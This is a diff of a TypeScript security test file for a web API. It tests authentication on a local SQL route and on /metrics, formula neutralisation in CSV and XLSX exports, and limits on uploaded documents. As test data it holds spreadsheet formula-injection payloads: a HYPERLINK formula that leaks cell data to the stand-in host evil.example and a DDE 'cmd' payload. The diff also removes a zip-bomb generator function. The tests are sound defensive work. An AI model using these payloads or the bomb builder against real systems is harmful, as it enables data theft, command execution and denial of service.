@@ -6,18 +6,26 @@
  * while a 19 MB body is on its way.
  */
 import http from 'node:http';
-import zlib from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { createTestDb, type TestDb } from '../support/db.ts';
 import { buildTestApp, TestClock, testDeps } from '../support/app.ts';
-import { makeMember, makeOrgTree, makeSecretary, makeUserWithRole } from '../factories/index.ts';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { makeMember, makeOrg, makeOrgTree, makeSecretary, makeUserWithRole } from '../factories/index.ts';
+import { exportUnitTable } from '../../api/console/export-unit-table.ts';
+import { exportMeetingsTable } from '../../api/console/export-meetings-table.ts';
+import { scheduleMeeting } from '../../api/meetings/schedule-meeting.ts';
+import { openMeeting } from '../../api/meetings/open-meeting.ts';
+import { closeMeeting } from '../../api/meetings/close-meeting.ts';
+import type { TableFile } from '../../api/http/table-file.ts';
 import { createBots } from '../../bot/bots.ts';
 import { readMemberSheet } from '../../api/members/member-sheet.ts';
-import { DOCUMENT_LIMITS } from '../../api/http/document-bounds.ts';
+import { DOCUMENT_LIMITS } from '../../api/extract/document-bounds.ts';
+import { pdfWithPages, zipBomb } from '../support/bombs.ts';
 import { DEFAULT_BODY_LIMIT, LARGE_BODY_ROUTES, UPLOAD_ROUTES } from '../../api/http/uploads.ts';
 import { signLink } from '../../api/http/signed-link.ts';
 import type { App } from '../../api/server.ts';
+import { LOCAL_DB_PATH, localDbRoutes } from '../../api/db/remote.ts';
 
 let t: TestDb;
 let app: App;
@@ -29,13 +37,15 @@ let editor: { token: string };
 let meetingId: number;
 
 const MB = 1024 * 1024;
+const LOCAL_SECRET = 'local-secret-of-this-test-0123456789';
 const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
 const count = async (table: string) => (await t.db.query<{ n: number }>(`select count(*)::int n from ${table}`))[0].n;
 
 beforeAll(async () => {
   t = await createTestDb();
   const deps = testDeps(t.db, clock);
-  app = await buildTestApp(deps, { plugins: createBots(deps, {}).plugins });
+  // The command line's SQL route too (registered while the service owns the embedded database).
+  app = await buildTestApp(deps, { plugins: [...createBots(deps, {}).plugins, localDbRoutes(t.db, LOCAL_SECRET)] });
   await app.listen({ port: 0, host: '127.0.0.1' });
   const address = app.server.address() as { port: number };
   base = `http://127.0.0.1:${address.port}`;
@@ -138,6 +148,27 @@ describe('bodies', () => {
     expect(res.sentWhenAnswered).toBeLessThan(19 * MB);
   });
 
+  it("the command line's SQL route takes a large body only from a caller with the secret", async () => {
+    const anonymous = await slowRequest({
+      path: LOCAL_DB_PATH,
+      headers: { 'content-type': 'application/json' },
+      size: 19 * MB,
+      pauseMs: 5,
+    });
+    expect(anonymous.status).toBe(401);
+    expect(anonymous.sentWhenAnswered).toBeLessThan(19 * MB);
+    // A statement of 2 MB (a long document's chunks) with the secret is run.
+    const text = 'x'.repeat(2 * MB);
+    const res = await app.inject({
+      method: 'POST',
+      url: LOCAL_DB_PATH,
+      headers: { 'x-local-secret': LOCAL_SECRET },
+      payload: { op: 'query', text: 'select length($1::text) as n', params: [text] },
+    });
+    expect(res.statusCode).toBe(200);
+    expect(res.json().rows[0].n).toBe(2 * MB);
+  });
+
   it('each route has its own limit: small by default, larger only where files and documents arrive', async () => {
     for (const key of [...Object.keys(UPLOAD_ROUTES), ...Object.keys(LARGE_BODY_ROUTES)]) {
       const [method, url] = key.split(' ');
@@ -203,6 +234,30 @@ describe('bodies', () => {
     const median = (xs: number[]) => xs[Math.floor(xs.length / 2)];
     expect(median(latencies)).toBeLessThan(Math.max(250, 3 * median(idle)));
     expect(latencies.at(-1)).toBeLessThan(Math.max(1000, 3 * idle.at(-1)!));
+  });
+});
+
+describe('service endpoints', () => {
+  it('/metrics answers only the METRICS_TOKEN: not anonymous callers, API tokens or a wrong one', async () => {
+    const metricsToken = 'm'.repeat(40);
+    const deps = testDeps(t.db, clock);
+    const withMetrics = await buildTestApp({ ...deps, config: { ...deps.config, metricsToken } });
+    try {
+      for (const authorization of [undefined, `Bearer ${sec.token}`, `Bearer ${'n'.repeat(40)}`, metricsToken]) {
+        const res = await withMetrics.inject({ url: '/metrics', headers: authorization ? { authorization } : {} });
+        expect(res.statusCode, String(authorization)).toBe(401);
+        expect(res.body).not.toContain('http_request_duration_seconds');
+      }
+      const ok = await withMetrics.inject({ url: '/metrics', headers: { authorization: `Bearer ${metricsToken}` } });
+      expect(ok.statusCode).toBe(200);
+      expect(ok.body).toContain('http_request_duration_seconds');
+    } finally {
+      await withMetrics.close();
+    }
+    // Without METRICS_TOKEN, /metrics answers nobody.
+    expect(
+      (await app.inject({ url: '/metrics', headers: { authorization: `Bearer ${metricsToken}` } })).statusCode,
+    ).toBe(401);
   });
 });
 
@@ -275,7 +330,60 @@ describe('security headers', () => {
   });
 });
 
+/** Every cell of a CSV or XLSX export: none may start a formula, none may be a formula cell. */
+async function exportedCells(file: TableFile): Promise<(string | number)[]> {
+  if (file.filename.endsWith('.csv')) {
+    const rows = parseCsv(file.data.toString('utf8').replace(/^\uFEFF/, '')) as string[][];
+    return rows.flat();
+  }
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(file.data as unknown as ArrayBuffer);
+  const cells: (string | number)[] = [];
+  book.worksheets[0].eachRow((row) =>
+    row.eachCell((c) => {
+      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
+      cells.push(c.value as string | number);
+    }),
+  );
+  return cells;
+}
+
 describe('spreadsheet exports', () => {
+  it("every export goes through one writer: the console's units and meetings tables neutralise formulas", async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
+    const sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const evil = await makeOrg(t.db, 'cell', tree.committee, hyperlink);
+    await makeOrg(t.db, 'cell', tree.committee, sum);
+    await makeMember(t.db, evil);
+    const evilSecretary = await makeSecretary(t.db, evil);
+    const meeting = await scheduleMeeting(testDeps(t.db, clock), evilSecretary.principal, {
+      cellId: evil.id,
+      kind: 'regular',
+      startsAt: clock.now(),
+      mode: 'in_person',
+    });
+    await openMeeting(testDeps(t.db, clock), evilSecretary.principal, meeting.id);
+    await closeMeeting(testDeps(t.db, clock), evilSecretary.principal, meeting.id, { confirm: true });
+    const committee = await makeUserWithRole(t.db, tree.committee, 'committee');
+    const deps = testDeps(t.db, clock);
+    for (const format of ['csv', 'xlsx'] as const) {
+      for (const file of [
+        await exportUnitTable(deps, committee.principal, tree.committee.id, format),
+        await exportMeetingsTable(deps, committee.principal, tree.committee.id, '2026-03', format),
+      ]) {
+        const cells = await exportedCells(file);
+        const texts = cells.filter((c): c is string => typeof c === 'string');
+        expect(texts, file.filename).toContain(`'${hyperlink}`);
+        for (const c of texts) expect(c, file.filename).not.toMatch(/^[=+\-@\t\r]/);
+        if (file.filename.startsWith('so-lieu')) {
+          expect(texts).toContain(`'${sum}`);
+          // Figures stay numbers (a column of counts, not of text).
+          if (format === 'xlsx') expect(cells.filter((c) => typeof c === 'number').length).toBeGreaterThan(0);
+        }
+      }
+    }
+  });
+
   it('a name or phone that starts a formula is exported as text, and imports back as typed', async () => {
     const evilName = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
     const member = await makeMember(t.db, tree.cellB, {
@@ -313,75 +421,6 @@ describe('spreadsheet exports', () => {
     }
   });
 });
-
-/** A zip with one deflated entry of `size` zero bytes that declares `declared` as its size. */
-function zipBomb(size: number, declared = size, name = 'xl/worksheets/sheet1.xml'): Buffer {
-  // Deflate blocks from separate compressors concatenate: 1 MB of zeros, compressed once,
-  // repeated, then one final empty block.
-  const zero = Buffer.alloc(MB);
-  const block = zlib.deflateRawSync(zero, { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH });
-  const blocks: Buffer[] = [];
-  let crc = 0;
-  for (let done = 0; done < size; done += MB) {
-    crc = zlib.crc32(zero, crc);
-    blocks.push(block);
-  }
-  blocks.push(zlib.deflateRawSync(Buffer.alloc(0)));
-  return buildZip(name, Buffer.concat(blocks), crc, declared);
-}
-
-function buildZip(name: string, compressed: Buffer, crc: number, uncompressed: number): Buffer {
-  const fileName = Buffer.from(name);
-  const local = Buffer.alloc(30);
-  local.writeUInt32LE(0x04034b50, 0);
-  local.writeUInt16LE(20, 4);
-  local.writeUInt16LE(0, 6);
-  local.writeUInt16LE(8, 8);
-  local.writeUInt32LE(crc >>> 0, 14);
-  local.writeUInt32LE(compressed.length, 18);
-  local.writeUInt32LE(uncompressed, 22);
-  local.writeUInt16LE(fileName.length, 26);
-  const central = Buffer.alloc(46);
-  central.writeUInt32LE(0x02014b50, 0);
-  central.writeUInt16LE(20, 4);
-  central.writeUInt16LE(20, 6);
-  central.writeUInt16LE(8, 10);
-  central.writeUInt32LE(crc >>> 0, 16);
-  central.writeUInt32LE(compressed.length, 20);
-  central.writeUInt32LE(uncompressed, 24);
-  central.writeUInt16LE(fileName.length, 28);
-  central.writeUInt32LE(0, 42);
-  const centralStart = local.length + fileName.length + compressed.length;
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(1, 8);
-  end.writeUInt16LE(1, 10);
-  end.writeUInt32LE(central.length + fileName.length, 12);
-  end.writeUInt32LE(centralStart, 16);
-  return Buffer.concat([local, fileName, compressed, central, fileName, end]);
-}
-
-/** A valid PDF with `pages` empty pages. */
-function pdfWithPages(pages: number): Buffer {
-  const objs = ['<< /Type /Catalog /Pages 2 0 R >>', ''];
-  const kids: string[] = [];
-  for (let i = 0; i < pages; i++) {
-    kids.push(`${objs.length + 1} 0 R`);
-    objs.push('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>');
-  }
-  objs[1] = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >>`;
-  let body = '%PDF-1.4\n';
-  const offsets: number[] = [];
-  objs.forEach((o, i) => {
-    offsets.push(body.length);
-    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
-  });
-  const xref = body.length;
-  body += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
-  body += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
-  body += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
-  return Buffer.from(body, 'latin1');
-}
 
 describe('document bombs', () => {
   const bombSize = DOCUMENT_LIMITS.maxInflatedBytes + 10 * MB;
